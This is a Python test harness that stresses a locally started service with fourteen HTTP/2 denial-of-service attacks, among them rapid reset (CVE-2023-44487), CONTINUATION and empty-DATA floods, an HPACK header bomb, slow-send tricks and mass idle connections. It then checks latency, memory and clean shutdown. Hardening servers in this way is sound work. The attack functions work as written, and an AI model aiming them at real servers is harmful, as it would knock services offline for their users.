#!/usr/bin/env python3
"""Attacks the real program over raw HTTP/2, one attack after the other and then all at once.

With each: a good client beside it keeps being answered, not much later than by a second instance that nobody attacks;
the attacker's connection is ended within 10 s, or its requests are answered as they deserve; memory grows by less than
64 MiB in all. At last the program is told to end with every attack going on, and does, in time and with exit code 0.

The good client asks both instances in turns. They share the machine with the attackers and with whatever else runs, in
the same moments, so what differs is what the attack does to the service: the medians may differ by MEDIAN times, the
slowest hundredths by P99 times, and either by SLICE_MS, for which somebody else may have the processor.

Every attacker comes from a loopback address of its own, as attackers do. Standard library only.

    abuse.py PROGRAM [SECONDS PER ATTACK]
"""

import multiprocessing
import os
import random
import resource
import select
import signal
import socket
import struct
import subprocess
import sys
import time

from http2 import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, SETTINGS, WINDOW_UPDATE, Client, Closed,
    Connection, field, frame, integer, literal, message, request_headers,
)

FORK = multiprocessing.get_context("fork")
MEMORY = 64 << 20
CLOSED_WITHIN = 10
# Files of its own, the good client, and connections that the kernel hands over late.
SILENT_LEFT = 100
# Connections that have given up their place to a new one, and are closed in a moment.
ENDING = 128
# The process id of the program, for attackers that look at it.
SERVICE = []
MEDIAN, P99, SLICE_MS = 3, 5, 4


def rapid_reset(address, source):
    """HEADERS and RST_STREAM, again and again (CVE-2023-44487)."""
    connection, stream, headers = Connection(address, source), 1, request_headers("GetRule")
    began = time.monotonic()
    while time.monotonic() - began < CLOSED_WITHIN:
        burst = b""
        for _ in range(100):
            burst += frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            stream += 2
        connection.send(burst)
        connection.frames(0)
        if connection.goaway:
            raise Closed


def continuation_flood(address, source):
    """A header block that never ends."""
    connection = Connection(address, source)
    connection.send(frame(HEADERS, 0, 1, request_headers("GetRule")))
    piece = literal("x-flood", "y" * 1000)
    began = time.monotonic()
    while time.monotonic() - began < CLOSED_WITHIN:
        connection.send(frame(CONTINUATION, 0, 1, piece) * 16)
        connection.frames(0)
        if connection.goaway:
            raise Closed


def empty_data_flood(address, source):
    """DATA frames without data (RUSTSEC-2026-0258)."""
    connection = Connection(address, source)
    connection.send(frame(HEADERS, END_HEADERS, 1, request_headers("GetRule")))
    began = time.monotonic()
    while time.monotonic() - began < CLOSED_WITHIN:
        connection.send(frame(DATA, 0, 1) * 1000)
        connection.frames(0)
        if connection.goaway:
            raise Closed


def malformed_requests(address, source):
    """6,000 requests without a method: each has to be reset, which must not go on for ever."""
    connection = Connection(address, source)
    headers = literal(":scheme", "http") + literal(":path", "/")
    for request in range(6000):
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * request, headers))
        connection.frames(0)
        if connection.goaway:
            raise Closed
    # The server may be behind.
    if connection.until_closed(CLOSED_WITHIN) is not None:
        raise Closed


def slow_preface(address, source):
    """The first bytes, one a second."""
    connection = Connection(address, source, preface=False)
    for byte in b"PRI * HTTP/2":
        connection.send(bytes([byte]))
        # Reads without an answer, which would be more than a byte.
        if select.select([connection.socket], [], [], 1)[0] and not connection.socket.recv(4096):
            raise Closed


def slow_body(address, source):
    """Requests on 32 streams that trickle in: each is ended at the deadline."""
    connection = Connection(address, source)
    for number in range(32):
        stream = 1 + 2 * number
        connection.send(frame(HEADERS, END_HEADERS, stream, request_headers("GetRule")))
        connection.send(frame(DATA, 0, stream, b"\0" + struct.pack(">I", 200_000)))
    ended, began = 0, time.monotonic()
    while ended < 32 and time.monotonic() - began < CLOSED_WITHIN:
        for number in range(32):
            connection.send(frame(DATA, 0, 1 + 2 * number, b"x"))
        frames = connection.frames(0.2)
        ended += sum(kind == HEADERS and bool(flags & END_STREAM) for kind, flags, _, _ in frames)
    if ended == 32:
        raise Closed


def one_byte_windows(address, source):
    """Asks for much on 32 streams and takes it byte by byte."""
    connection = Connection(address, source, settings=struct.pack(">HI", 4, 0))
    body = message(field(1, b"classic-4p"))
    for number in range(32):
        stream = 1 + 2 * number
        connection.send(frame(HEADERS, END_HEADERS, stream, request_headers("GetRuleSet")))
        connection.send(frame(DATA, END_STREAM, stream, body))
    began = time.monotonic()
    while time.monotonic() - began < CLOSED_WITHIN:
        connection.send(b"".join(frame(WINDOW_UPDATE, 0, 1 + 2 * n, struct.pack(">I", 1)) for n in range(32)))
        connection.frames(0)
        time.sleep(0.1)


def untaken_answers(address, source):
    """As many answers as one address can ask for, none of which is taken: others find a place, and these connections
    are closed."""
    body = message(field(1, b"classic-4p"))
    connections, closed = [Connection(address, source, settings=struct.pack(">HI", 4, 0)) for _ in range(32)], 0
    for connection in connections:
        for stream in range(1, 129, 2):
            connection.send(frame(HEADERS, END_HEADERS, stream, request_headers("GetRuleSet")))
            connection.send(frame(DATA, END_STREAM, stream, body))
    for connection in connections:
        closed += connection.until_closed(CLOSED_WITHIN) is not None
    if closed == 32:
        raise Closed


def header_bomb(address, source):
    """One long field in the table, and requests that name it a thousand times with a byte each."""
    connection, stream = Connection(address, source), 1
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_headers("GetRule") + literal("x-long", "y" * 3900, True)))
    began = time.monotonic()
    while time.monotonic() - began < CLOSED_WITHIN:
        stream += 2
        # 62 is the newest entry of the dynamic table.
        bomb = request_headers("GetRule") + integer(62, 7, 0x80) * 10_000
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, bomb))
        connection.frames(0)
        if connection.goaway:
            raise Closed


def idle_connections(address, source):
    """10,000 connections that say nothing, from many addresses. Counted are those that the service holds: the kernel
    lets clients believe for long that they are connected."""
    host, port = address.rsplit(":", 1)
    first, sockets, most = int(source.rsplit(".", 1)[1]), [], 0
    for number in range(10_000):
        one = socket.socket()
        one.setblocking(False)
        one.bind((f"127.{first}.{number // 250 % 250 + 1}.{number % 250 + 1}", 0))
        one.connect_ex((host, int(port)))
        sockets.append(one)
        if number % 200 == 0:
            time.sleep(0.02)
            most = max(most, held())
    began = time.monotonic()
    while held() > SILENT_LEFT and time.monotonic() - began < CLOSED_WITHIN:
        most = max(most, held())
        time.sleep(0.1)
    left = held()
    for one in sockets:
        one.close()
    if most < 500 or most > 1024 + SILENT_LEFT + ENDING or left > SILENT_LEFT:
        raise AssertionError(f"the service held {most} connections, and {left} after {CLOSED_WITHIN} s")
    raise Closed


def held():
    """How many files and sockets the service has open."""
    return len(os.listdir(f"/proc/{SERVICE[0]}/fd"))


def length_bombs(address, source):
    """A thousand messages that say they are long, and five bytes of each."""
    connection, stream, answered = Connection(address, source), 1, 0
    began = time.monotonic()
    while answered < 1000 and time.monotonic() - began < CLOSED_WITHIN:
        if stream < 2000:
            length = (4 << 20, 0xFFFFFFFF, 255 << 10)[stream // 2 % 3]
            connection.send(frame(HEADERS, END_HEADERS, stream, request_headers("GetRule")))
            connection.send(frame(DATA, END_STREAM, stream, b"\0" + struct.pack(">I", length) + b"12345"))
            stream += 2
        for kind, flags, _, _ in connection.frames(0 if stream - 1 < 2 * answered + 60 and stream < 2000 else 0.05):
            answered += kind == RST_STREAM or (kind in (HEADERS, DATA) and bool(flags & END_STREAM))
    if answered >= 1000:
        raise Closed


def held_bodies(address, source):
    """Requests of 250 kB without their last byte, on many streams and connections: each is refused or ended."""
    connections, ended = [], 0
    try:
        for _ in range(16):
            connection = Connection(address, source)
            connections.append(connection)
            # The server widens the connection's window first thing.
            while not connection.credit:
                connection.credit = credit(connection.frames(1))
            connection.left = {}
            for stream in range(1, 49, 2):
                connection.send(frame(HEADERS, END_HEADERS, stream, request_headers("GetRule")))
                connection.send(frame(DATA, 0, stream, b"\0" + struct.pack(">I", 250_000)))
                connection.left[stream] = 249_999
        began = time.monotonic()
        while ended < 16 * 24 and time.monotonic() - began < CLOSED_WITHIN:
            for connection in connections:
                for stream in list(connection.left):
                    length = min(connection.left[stream], connection.credit, 16_384)
                    if length:
                        connection.send(frame(DATA, 0, stream, b"x" * length))
                        connection.left[stream] -= length
                        connection.credit -= length
                frames = connection.frames(0.005)
                connection.credit += credit(frames)
                for kind, flags, stream, _ in frames:
                    if kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
                        ended += connection.left.pop(stream, None) is not None
    finally:
        for connection in connections:
            connection.close()
    if ended >= 16 * 24:
        raise Closed


def credit(frames):
    """How much the server lets us send more on the connection."""
    updates = [payload for kind, _, stream, payload in frames if kind == WINDOW_UPDATE and stream == 0]
    return sum(int.from_bytes(payload, "big") for payload in updates)


def held_logs(address, source):
    """All 256 places for logs and 64 more, none of which ever comes: another brings its own all the same."""
    method = "/canasta.v1.AuditService/AuditLog"
    question = message(field(1, field(1, b"\x10\x01")))
    connections, refused = [Connection(address, source) for _ in range(20)], 0
    try:
        for connection in connections:
            for stream in range(1, 33, 2):
                connection.send(frame(HEADERS, END_HEADERS, stream, request_headers(method)))
                connection.send(frame(DATA, 0, stream, question))
        began = time.monotonic()
        while refused < 64 and time.monotonic() - began < CLOSED_WITHIN:
            for connection in connections:
                refused += sum(kind == HEADERS for kind, _, _, _ in connection.frames(0.01))
        other = Client(address, source.replace("127.0.", "127.7."))
        answer = other.call(method, field(1, field(1, b"\x10\x01")))
        assert answer and refused >= 64, f"{refused} of 320 refused, another is answered {answer[:40]}"
        other.connection.close()
    finally:
        for connection in connections:
            connection.close()
    raise Closed


def hostile_tokens(address, source):
    """States of noise, of every length: each is answered, as malformed."""
    client, dice = Client(address, source), random.Random(7)
    for number in range(400):
        length = dice.choice((0, 1, 2, 52, 80, 320, 340, 4096, 60_000, 200_000))
        state = bytes([dice.choice((0xC5, 0xC9, 0xCA, 0)), 1]) + dice.randbytes(length)
        method = dice.choice(("GetView", "ListLegalActions", "CheckAction", "ApplyAction", "SuggestAction"))
        answer = client.call(method, field(1, state) + field(2, b"\x10\x01") + field(3, field(1, b"")))
        assert answer == b"", answer[:40]
    raise Closed


ATTACKS = [
    rapid_reset, continuation_flood, empty_data_flood, malformed_requests, slow_preface, slow_body, one_byte_windows,
    untaken_answers, header_bomb, idle_connections, length_bombs, held_bodies, held_logs, hostile_tokens,
]


def attack(function, address, source, until, results):
    """Attacks again and again; the longest time until the server had enough, or what went wrong."""
    os.nice(10)
    longest, rounds = 0.0, 0
    while time.time() < until or rounds == 0:
        began = time.monotonic()
        try:
            function(address, source)
            longest = float("inf")
            break
        except Closed:
            longest, rounds = max(longest, time.monotonic() - began), rounds + 1
        except ConnectionRefusedError:
            break
        except Exception as error:
            results.put((function.__name__, repr(error)))
            return
    results.put((function.__name__, (longest, rounds)))


def measure(addresses, seconds):
    """A good client asks in turns: of each instance the median and the 99th percentile, in ms. Every answer is right."""
    clients, times, key = [Client(address) for address in addresses], [[] for _ in addresses], field(1, b"CL-050")
    began, turn = time.monotonic(), 0
    while time.monotonic() - began < seconds:
        turn = 1 - turn
        for number in (turn, 1 - turn):
            start = time.monotonic()
            answer = clients[number].call("GetRule", key)
            times[number].append(1000 * (time.monotonic() - start))
            assert b"CL-050" in answer, answer[:80]
        time.sleep(0.001)
    for client in clients:
        client.connection.close()
    return [(sorted(one)[len(one) // 2], sorted(one)[len(one) * 99 // 100]) for one in times]


def is_late(attacked, alone, times):
    return attacked > times * alone + SLICE_MS


def memory(pid, what="VmRSS"):
    with open(f"/proc/{pid}/status") as status:
        line = next(line for line in status if line.startswith(what))
    return int(line.split()[1]) * 1024


def main(program, seconds=3.0):
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    command = [program, "--listen", "127.0.0.1:0"]
    service, twin = (subprocess.Popen(command, stderr=subprocess.PIPE, text=True) for _ in range(2))
    try:
        address, other = (one.stderr.readline().split()[-1] for one in (service, twin))
        SERVICE.append(service.pid)
        print(f"{'':20}   median, p99 in ms  (beside, not attacked)", flush=True)
        tell("nothing", measure((address, other), float(seconds)), "")
        before, failures = memory(service.pid), []
        for number, function in enumerate(ATTACKS):
            results, source = FORK.Queue(), f"127.0.1.{10 + number}"
            until = time.time() + float(seconds)
            process = FORK.Process(target=attack, args=(function, address, source, until, results))
            process.start()
            found = measure((address, other), float(seconds))
            name, result = results.get(timeout=60)
            process.join(30)
            grown = memory(service.pid) - before
            tell(name, found, f"{grown >> 20:+4} MiB, ended {result}")
            # Ten thousand connections take their time to be made.
            limit = CLOSED_WITHIN * (3 if function is idle_connections else 1)
            if isinstance(result, str) or result[0] > limit:
                failures.append(f"{name}: {result}")
            (median, p99), (median_alone, p99_alone) = found
            if is_late(median, median_alone, MEDIAN) or is_late(p99, p99_alone, P99):
                failures.append(f"{name}: a good client waits too long: {found}")
        peak = memory(service.pid, "VmHWM") - before
        if peak > MEMORY:
            failures.append(f"memory grew by {peak >> 20} MiB")
        took = end(service, address)
        print(f"ended in {took:.1f} s with everything attached; memory grew by at most {peak >> 20} MiB")
        assert not failures, failures
    finally:
        service.kill()
        twin.kill()


def tell(name, found, more):
    (median, p99), (median_alone, p99_alone) = found
    print(f"{name:20} {median:7.2f} {p99:7.2f}  ({median_alone:7.2f} {p99_alone:7.2f})  {more}", flush=True)


def end(service, address):
    """All attacks at once, and the signal."""
    results, until = FORK.Queue(), time.time() + 40
    processes = [
        FORK.Process(target=attack, args=(function, address, f"127.0.2.{10 + number}", until, results))
        for number, function in enumerate(ATTACKS)
    ]
    for process in processes:
        process.start()
    time.sleep(1)
    began = time.monotonic()
    service.send_signal(signal.SIGTERM)
    code = service.wait(30)
    took = time.monotonic() - began
    for process in processes:
        process.kill()
        process.join()
    assert code == 0, code
    assert took < 30, took
    return took


if __name__ == "__main__":
    main(sys.argv[1], *(float(argument) for argument in sys.argv[2:]))
